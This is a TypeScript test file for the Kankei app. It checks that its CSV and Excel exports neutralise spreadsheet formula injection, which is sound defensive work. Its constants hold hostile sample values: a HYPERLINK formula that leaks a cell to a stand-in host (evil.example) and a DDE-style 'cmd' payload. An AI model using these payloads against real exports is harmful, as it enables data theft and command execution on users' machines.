/**
 * Spreadsheet formula injection (CSV injection) through every file Kankei writes. A value planted
 * through the public sign-up or by staff — `=HYPERLINK(…)`, `+…`, `-…`, `@…`, and their full-width
 * forms — must come back from each CSV and .xlsx export as text that no spreadsheet evaluates:
 * with one leading apostrophe, the rest unchanged. Numbers stay numbers. Files are read back the
 * way a program would: CSV with csv-parse (after decoding CP932 where asked), workbooks with exceljs.
 */
import { parse } from 'csv-parse/sync';
import { sql } from 'drizzle-orm';
import ExcelJS from 'exceljs';
import iconv from 'iconv-lite';
import type { ParsedMail } from 'mailparser';
import { fieldLabel } from '../../src/shared/messages.js';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { createTestApp, personPayload, type TestApp } from '../helpers/app.js';
import { TEST_DRIVERS } from '../helpers/db.js';
import { startTestSmtp, type TestSmtp } from '../helpers/smtp.js';

const HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"詳細")';
const PLUS = '+SUM(1,1)';
const FULL_WIDTH = '＝ＳＵＭ(1,1)';
const AT = '@SUM(1+1)';
const MINUS = "-2+3+cmd|' /C calc'!A0";
const PHONE = '+81 90-1234-5678';
const XLSX = 'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet';

/** What a spreadsheet would take as the start of a formula (OWASP's list and the full-width forms). */
const FORMULA_START = /^\s*[=+\-@\t\r＝＋－＠]/u;

const readCsv = (text: string): string[][] => parse(text, { bom: true, relax_column_count: true });

function expectNoFormulaCell(records: string[][]) {
  const formulas = records.flat().filter((cell) => FORMULA_START.test(cell));
  expect(formulas).toEqual([]);
}

describe.each(TEST_DRIVERS)('exports neutralise spreadsheet formulas on %s', (driver) => {
  let t: TestApp;
  let smtp: TestSmtp;
  let signedUpId = '';
  let supporterCookie = '';
  let staffCreatedId = '';

  beforeAll(async () => {
    smtp = await startTestSmtp();
    t = await createTestApp(driver, { smtpUrl: smtp.url });
    // Anyone can plant a formula through the public sign-up.
    const form = (await t.app.inject({ method: 'GET', url: '/api/public/registration-form' })).json() as {
      formToken: string;
    };
    const signUp = await t.app.inject({
      method: 'POST',
      url: '/api/public/registrations',
      payload: {
        email: 'formula.supporter@example.jp',
        name: HYPERLINK,
        kana: 'けいしき',
        municipalityCodes: ['062014'],
        roots: ['furusato_donor'],
        interests: [PLUS, '農業'],
        skills: [FULL_WIDTH],
        involvement: ['events'],
        consents: { newsletter: false, shareWithMunicipalities: true, anonymousStatistics: false },
        formToken: form.formToken,
      },
    });
    expect(signUp.statusCode, signUp.body).toBe(202);
    const mail: ParsedMail = await smtp.waitFor((m) =>
      JSON.stringify(m.to ?? '').includes('formula.supporter@example.jp'),
    );
    const token = (mail.text ?? '').match(/\/register\/confirm\?token=([A-Za-z0-9_-]+)/)![1]!;
    const confirmed = await t.app.inject({
      method: 'POST',
      url: '/api/public/registrations/confirm',
      payload: { token },
    });
    expect(confirmed.statusCode, confirmed.body).toBe(200);
    const cookie = confirmed.cookies.find((c) => c.name === 'kankei_supporter')!;
    supporterCookie = `kankei_supporter=${cookie.value}`;
    signedUpId = (await t.app.inject({ method: 'GET', url: '/api/me', headers: { cookie: supporterCookie } })).json()
      .person.id;

    // Staff typing what a caller said can plant one too; a phone number written with +81 is text.
    const created = await t.admin.request({
      method: 'POST',
      url: '/api/people',
      payload: personPayload({
        name: AT,
        kana: 'アット',
        phone: PHONE,
        city: MINUS,
        birthYear: 1985,
        notes: "'引用符で始まるメモ",
      }),
    });
    expect(created.statusCode, created.body).toBe(201);
    staffCreatedId = created.json().id;
  });
  afterAll(async () => {
    await t?.close();
    await smtp?.close();
  });

  const peopleRow = (records: string[][], id: string) => {
    const header = records[0]!;
    const row = records.find((r) => r[0] === id)!;
    expect(row, `no row for ${id}`).toBeDefined();
    return Object.fromEntries(header.map((h, i) => [h, row[i]]));
  };

  it('writes planted formulas in the UTF-8 people export as text with one leading apostrophe', async () => {
    const res = await t.admin.request({ method: 'GET', url: '/api/people/export' });
    expect(res.statusCode).toBe(200);
    expect([...res.rawPayload.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    const records = readCsv(res.rawPayload.toString('utf8'));
    expectNoFormulaCell(records);
    expect(peopleRow(records, signedUpId).氏名).toBe(`'${HYPERLINK}`);
    const staffMade = peopleRow(records, staffCreatedId);
    expect(staffMade).toMatchObject({ 氏名: `'${AT}`, 電話番号: `'${PHONE}`, 市区町村: `'${MINUS}`, 生年: '1985' });
    // A value that already starts with an apostrophe gets one more, so dropping one always gives the value back.
    expect(staffMade.メモ).toBe("''引用符で始まるメモ");
  });

  it('writes planted formulas in the Shift_JIS (CP932) people export as text with one leading apostrophe', async () => {
    const res = await t.admin.request({ method: 'GET', url: '/api/people/export?encoding=sjis' });
    expect(res.statusCode).toBe(200);
    expect(res.headers['content-type']).toContain('Shift_JIS');
    const records = readCsv(iconv.decode(res.rawPayload, 'cp932'));
    expectNoFormulaCell(records);
    expect(peopleRow(records, signedUpId).氏名).toBe(`'${HYPERLINK}`);
    expect(peopleRow(records, staffCreatedId)).toMatchObject({
      氏名: `'${AT}`,
      電話番号: `'${PHONE}`,
      市区町村: `'${MINUS}`,
      生年: '1985',
    });
  });

  it('writes planted formulas in the supporter’s own CSV as text with one leading apostrophe', async () => {
    const res = await t.app.inject({
      method: 'GET',
      url: '/api/me/export?format=csv',
      headers: { cookie: supporterCookie },
    });
    expect(res.statusCode).toBe(200);
    expect([...res.rawPayload.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    expect(res.rawPayload.toString('utf8')).toContain('\r\n');
    const records = readCsv(res.rawPayload.toString('utf8'));
    expectNoFormulaCell(records);
    // Sections and items as an office reads them (本人・氏名, プロフィール・…), values as text.
    expect(records).toContainEqual(['本人', fieldLabel('ja', 'name'), `'${HYPERLINK}`]);
    expect(records).toContainEqual(['プロフィール', fieldLabel('ja', 'interests'), `'${PLUS}、農業`]);
    expect(records).toContainEqual(['プロフィール', fieldLabel('ja', 'skills'), `'${FULL_WIDTH}`]);
  });

  describe('needs analysis files', () => {
    // No route lets a user name a municipality today; the master data is changed here directly so
    // that the analysis files are shown to go through the same writer as the people exports.
    beforeAll(async () => {
      await t.database.db.execute(sql`update municipalities set name = ${HYPERLINK} where code = '062014'`);
    });

    it('writes a formula-like name in the analysis CSV as text, and counts as plain numbers', async () => {
      const res = await t.admin.request({
        method: 'GET',
        url: '/api/analytics/consultations?fy=2025&format=csv&table=municipalities',
      });
      expect(res.statusCode, res.body).toBe(200);
      const records = readCsv(res.rawPayload.toString('utf8'));
      expectNoFormulaCell(records);
      expect(records).toContainEqual(['062014', `'${HYPERLINK}`, '0', '0', '0']);

      const summary = await t.admin.request({
        method: 'GET',
        url: '/api/analytics/consultations?fy=2025&format=csv&table=summary&municipality=062014',
      });
      const summaryRecords = readCsv(summary.rawPayload.toString('utf8'));
      expectNoFormulaCell(summaryRecords);
      expect(summaryRecords).toContainEqual(['市町村', `'${HYPERLINK}（062014）`]);
    });

    it('writes a formula-like name in the analysis workbook as a text cell, never a formula', async () => {
      const res = await t.admin.request({
        method: 'GET',
        url: '/api/analytics/consultations?fy=2025&municipality=062014',
        headers: { accept: XLSX },
      });
      expect(res.statusCode, res.body).toBe(200);
      const workbook = new ExcelJS.Workbook();
      await workbook.xlsx.load(res.rawPayload as unknown as ArrayBuffer);
      const cells: ExcelJS.Cell[] = [];
      workbook.eachSheet((sheet) => sheet.eachRow((row) => row.eachCell((cell) => cells.push(cell))));
      expect(cells.length).toBeGreaterThan(20);
      expect(cells.filter((c) => c.type === ExcelJS.ValueType.Formula).map((c) => c.address)).toEqual([]);
      expect(
        cells.filter((c) => typeof c.value === 'string' && FORMULA_START.test(c.value)).map((c) => c.value),
      ).toEqual([]);

      const summary = workbook.getWorksheet('概要')!;
      expect(summary.getCell('B4').type).toBe(ExcelJS.ValueType.String);
      expect(summary.getCell('B4').value).toBe(`'${HYPERLINK}（062014）`);
      expect(summary.getCell('B5').type).toBe(ExcelJS.ValueType.Number);
      const perMunicipality = workbook.getWorksheet('市町村別')!;
      expect(perMunicipality.getRow(2).values).toEqual([undefined, '062014', `'${HYPERLINK}`, 0, 0, 0]);
    });
  });
});
